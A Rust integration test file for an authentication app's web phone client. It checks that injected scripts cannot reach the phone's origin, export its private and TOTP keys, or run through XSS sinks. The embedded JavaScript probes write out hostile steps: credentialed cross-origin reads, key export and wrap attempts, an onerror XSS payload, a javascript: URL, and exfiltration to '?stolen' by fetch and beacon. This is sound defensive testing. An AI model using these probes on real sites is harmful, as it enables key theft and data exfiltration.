//! What a script that should not run can do: on the other site, and on the phone's own.

use crate::house::House;
use serde_json::{Value, json};

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_script_on_the_portal_does_not_reach_the_phone() {
    let Some(house) = House::new("a_script_on_the_portal", "").await else { return };
    let phone = house.enrolled("alice", "Alice's phone").await;
    let browser = phone.browser();
    let workers = browser.workers().await;
    browser.is_clean().await;

    // No answer of the portal lets a script reach another origin. Without that, what the phone does
    // against it is seen.
    browser.open_bare(&format!("{}/bare", house.sites.public)).await;
    let found = browser.evaluate(FROM_ELSEWHERE, json!({ "phone": house.sites.phone })).await;
    assert_eq!(found["origin"], house.sites.public.as_str());
    assert_eq!(found["databases"], json!([]), "the phone's keys are the phone's");
    assert_eq!(found["stores"], json!([]));
    for way in ["plain", "credentials", "posted", "signed", "page", "worker_file"] {
        assert_eq!(found[way], "TypeError", "{way}: {found}");
    }
    assert_eq!(found["registered"], "SecurityError", "{found}");
    assert_eq!(found["framed"], "SecurityError", "{found}");
    assert_eq!(found["opened"], "cut off", "{found}");
    assert_eq!(found["caches"], json!([]));
    let complaints = browser.complaints().await;
    assert!(complaints.iter().any(|line| line.contains("frame-ancestors")), "{complaints:?}");

    // Nothing of it was left on the phone.
    phone.open().await;
    assert_eq!(phone.codes().await.len(), 1);
    assert_eq!(browser.workers().await, workers);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_phones_page_runs_no_other_script_and_gives_no_key_away() {
    let Some(house) = House::new("the_phones_page_runs", "").await else { return };
    let phone = house.enrolled("alice", "Alice's phone").await;
    let browser = phone.browser();
    let kept = browser.databases().await;
    let keys = keys_of(&kept);
    assert_eq!(keys.len(), 7, "{kept}");
    for key in keys {
        assert_eq!(key["extractable"], key["type"] == "public", "{key}");
    }
    let taken = browser.evaluate(EXPORT, Value::Null).await;
    assert_eq!(taken["tried"], 16, "{taken}");
    assert_eq!(taken["names"], json!(["InvalidAccessError"]), "{taken}");

    let sinks = browser.evaluate(SINKS, json!({ "public": house.sites.public })).await;
    for sink in [
        "inner_html",
        "script_text",
        "script_src",
        "eval",
        "function",
        "timeout",
        "policy",
        "worker",
        "write",
    ] {
        let stopped =
            ["TypeError", "EvalError"].contains(&sinks[sink].as_str().unwrap_or_default());
        assert!(stopped, "{sink}: {sinks}");
    }
    for way in ["fetched", "beacon", "pictured", "framed"] {
        assert_eq!(sinks[way], "stopped", "{way}: {sinks}");
    }
    assert_eq!(sinks["ran"], Value::Null, "{sinks}");
    assert_eq!(phone.codes().await.len(), 1);
    let asked = browser.network().await;
    let public = house.sites.public.as_str();
    let answered = |one: &&Value| one["status"].as_u64().is_some_and(|status| status != 0);
    let left = asked.iter().filter(|one| one["url"].as_str().unwrap().starts_with(public));
    assert_eq!(left.filter(answered).count(), 0, "{asked:?}");
}

/// Every key in what a browser keeps.
fn keys_of(kept: &Value) -> Vec<&Value> {
    match kept {
        Value::Array(all) => all.iter().flat_map(keys_of).collect(),
        Value::Object(all) => match all.get("CryptoKey") {
            Some(key) => vec![key],
            None => all.values().flat_map(keys_of).collect(),
        },
        Value::Null | Value::Bool(_) | Value::Number(_) | Value::String(_) => vec![],
    }
}

/// As a script that was injected into the portal would.
const FROM_ELSEWHERE: &str = r"
    const done = wish => new Promise((resolve, reject) => {
        wish.onsuccess = () => resolve(wish.result);
        wish.onerror = () => reject(wish.error);
    });
    const how = async act => {
        try { return await act() } catch (error) { return error.name }
    };
    const read = async (path, wish) => how(async () => {
        const answer = await fetch(arg.phone + path, wish);
        return `${answer.type} ${await answer.text()}`;
    });
    const own = {
        'content-digest': 'sha-256=:47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=:',
        'signature-input': 'authx=()', signature: 'authx=:AAAA:', 'authx-client': 'authx-web-phone/0.1.0',
    };
    const found = { origin: location.origin };
    found.databases = (await indexedDB.databases()).map(one => one.name);
    const database = await done(indexedDB.open('authx'));
    found.stores = [...database.objectStoreNames];
    database.close();
    found.caches = await caches.keys();
    found.plain = await read('/phone/v1/server', {});
    found.credentials = await read('/phone/v1/server', { credentials: 'include' });
    found.posted = await read('/phone/v1/invitations', {
        method: 'POST', credentials: 'include', body: JSON.stringify({ invitation: 'ABCD-EFGH' }),
    });
    found.signed = await read('/phone/v1/requests', { credentials: 'include', headers: own });
    found.page = await read('/', { credentials: 'include' });
    found.worker_file = await read('/sw.js', { mode: 'no-cors' });
    found.registered = await how(() => navigator.serviceWorker.register(`${arg.phone}/sw.js`));
    found.framed = await how(async () => {
        const frame = document.createElement('iframe');
        frame.src = `${arg.phone}/`;
        document.documentElement.append(frame);
        await new Promise(loaded => { frame.onload = loaded; setTimeout(loaded, 3_000) });
        const inside = frame.contentWindow.document.body.innerText;
        return `framed: ${inside}`;
    });
    found.opened = await how(async () => {
        const other = open(`${arg.phone}/`);
        for (let times = 0; times < 100; times++) {
            await new Promise(later => setTimeout(later, 50));
            if (other === null || other.closed) return 'cut off';
        }
        return 'held';
    });
    return found;
";

/// Every way out that `WebCrypto` has, for every key that is none of the public ones.
const EXPORT: &str = r"
    const done = wish => new Promise((resolve, reject) => {
        wish.onsuccess = () => resolve(wish.result);
        wish.onerror = () => reject(wish.error);
    });
    const database = await done(indexedDB.open('authx'));
    const [{ keys, totp }] = await done(database.transaction('accounts').objectStore('accounts').getAll());
    database.close();
    const wrapping = await crypto.subtle.generateKey({ name: 'AES-GCM', length: 256 }, true, ['wrapKey']);
    const names = new Set();
    let tried = 0;
    const refused = async act => {
        tried += 1;
        try {
            await act();
            names.add('given away');
        } catch (error) {
            names.add(error.name);
        }
    };
    const secrets = [keys.answer.privateKey, keys.device.privateKey, keys.box.privateKey].map(key => [key, 'pkcs8']);
    for (const [key, format] of [...secrets, [totp.key, 'raw']]) {
        for (const one of [format, 'jwk']) {
            await refused(() => crypto.subtle.exportKey(one, key));
            const iv = crypto.getRandomValues(new Uint8Array(12));
            await refused(() => crypto.subtle.wrapKey(one, key, wrapping, { name: 'AES-GCM', iv }));
        }
    }
    return { tried, names: [...names] };
";

/// From a timer: what a driver runs itself is not held to the page's policy.
const SINKS: &str = r"
    const how = async act => {
        try { return String(await act()) } catch (error) { return error.name }
    };
    const element = name => document.createElement(name);
    const stopped = () => new Promise(resolve => {
        document.addEventListener('securitypolicyviolation', () => resolve('stopped'), { once: true });
        setTimeout(() => resolve('not stopped'), 3_000);
    });
    const probes = async () => {
        const found = {};
        found.inner_html = await how(() => { element('div').innerHTML = '<img src=x onerror=ran=1>' });
        found.script_text = await how(() => { element('script').textContent = 'globalThis.ran = 1' });
        found.script_src = await how(() => { element('script').src = `${arg.public}/evil.js` });
        found.eval = await how(() => eval('globalThis.ran = 1'));
        found.function = await how(() => new Function('globalThis.ran = 1')());
        found.timeout = await how(() => setTimeout('globalThis.ran = 1'));
        found.policy = await how(() => trustedTypes.createPolicy('mine', { createHTML: text => text }));
        found.worker = await how(() => new Worker('/sw.js'));
        found.write = await how(() => document.write('<script>globalThis.ran = 1</script>'));
        const inline = element('script');
        inline.append('globalThis.ran = 1');
        await how(() => document.body.append(inline));
        const button = element('button');
        await how(() => button.setAttribute('onclick', 'globalThis.ran = 1'));
        document.body.append(button);
        button.click();
        button.remove();
        const link = element('a');
        await how(() => { link.href = 'javascript:globalThis.ran=1' });
        document.body.append(link);
        link.click();
        link.remove();
        await new Promise(later => setTimeout(later, 200));
        let violated = stopped();
        await how(() => fetch(`${arg.public}/?stolen`));
        found.fetched = await violated;
        violated = stopped();
        await how(() => navigator.sendBeacon(`${arg.public}/?stolen`));
        found.beacon = await violated;
        violated = stopped();
        const picture = element('img');
        picture.src = `${arg.public}/stolen.png`;
        document.body.append(picture);
        found.pictured = await violated;
        picture.remove();
        violated = stopped();
        const frame = element('iframe');
        frame.src = `${arg.public}/`;
        document.body.append(frame);
        found.framed = await violated;
        frame.remove();
        found.ran = globalThis.ran ?? null;
        return found;
    };
    return new Promise((resolve, reject) => setTimeout(() => probes().then(resolve, reject), 50));
";
